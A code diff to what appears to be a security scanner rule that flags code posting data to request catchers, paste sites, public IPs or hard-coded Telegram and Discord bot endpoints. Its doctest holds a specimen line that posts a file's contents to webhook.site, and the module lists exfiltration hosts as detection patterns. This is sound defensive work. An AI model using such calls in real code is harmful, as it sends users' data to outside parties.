@@ -1,12 +1,13 @@
-"""Code that talks to a request catcher, a paste site or a bare public IP address.
+"""Code that talks to a request catcher, a paste site, a bare public IP address or the
+author's own chat bot.
 
-Request catchers (``webhook.site``, ``requestbin``, interaction servers) exist to
-collect whatever strangers send them, and a skill's code has no reason to call a bare
-public IP address or a paste site: these are where stolen data is dropped and where
-command-and-control lives. The URL must be used by a network call, on its line or through
-a name it is assigned to, so a list of hosts to block or a help text is not a finding.
-Prose is never read here (documents describe such hosts), nor are test files, where a
-scanner keeps the specimens it is tested on.
+Request catchers (``webhook.site``, ``requestbin``, interaction servers) exist to collect
+whatever strangers send them, and a skill's code has no reason to call a bare public IP
+address, a paste site, or a Telegram bot or Discord webhook whose token it writes in: these
+are where stolen data is dropped and where command-and-control lives. The URL must be used
+by a network call, on its line or through a name it is assigned to, so a list of hosts to
+block or a help text is not a finding. Prose is never read here (documents describe such
+hosts), nor are test files, where a scanner keeps the specimens it is tested on.
 
 >>> code = "URL = 'https://webhook.site/0f3a'\\nrequests.post(URL, data=open('n').read())"
 >>> [(f.rule_id, f.line) for f in collector_requests("scripts/a.py", code)]
@@ -30,8 +31,15 @@ _CATCHERS = (
     r"|requestcatcher\.com|webhook\.cool|interact\.sh|oast\.(?:fun|live|site|online|pro|me)"
     r"|burpcollaborator\.net|canarytokens\.com|dnslog\.cn|ceye\.io"
 )
+_AUTHORS_CHAT = (
+    r"api\.telegram\.org/bot\d+:(?!X+\b)[\w-]{4,}"
+    r"|discord(?:app)?\.com/api/webhooks/\d+/(?!X+\b)[\w-]{4,}"
+)
+"""A chat bot or webhook whose token is written in the code: the author's channel, which
+whatever the code sends lands in (a user's own bot is configured, not written in)."""
 _COLLECTOR_URL = re.compile(
-    rf"\bhttps?://(?:(?:[\w-]+\.)*(?:{_CATCHERS}|{PASTE_HOSTS})(?=[/:\s\"'`)>\]]|$)|{PUBLIC_IP})",
+    rf"\bhttps?://(?:(?:[\w-]+\.)*(?:{_CATCHERS}|{PASTE_HOSTS})(?=[/:\s\"'`)>\]]|$)|{PUBLIC_IP}"
+    rf"|{_AUTHORS_CHAT})",
     re.I,
 )
 
